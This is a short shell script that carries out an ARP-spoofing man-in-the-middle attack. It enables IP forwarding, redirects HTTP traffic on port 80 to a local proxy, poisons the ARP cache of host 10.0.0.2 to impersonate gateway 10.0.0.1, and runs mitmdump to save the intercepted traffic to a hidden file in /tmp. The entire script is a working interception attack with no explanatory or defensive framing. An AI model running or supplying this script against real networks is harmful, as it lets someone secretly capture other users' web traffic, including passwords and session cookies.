#!/bin/sh
iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-port 8080
sysctl -w net.ipv4.ip_forward=1
arpspoof -i eth0 -t 10.0.0.2 10.0.0.1 &
mitmdump -w /tmp/.flows -p 8080
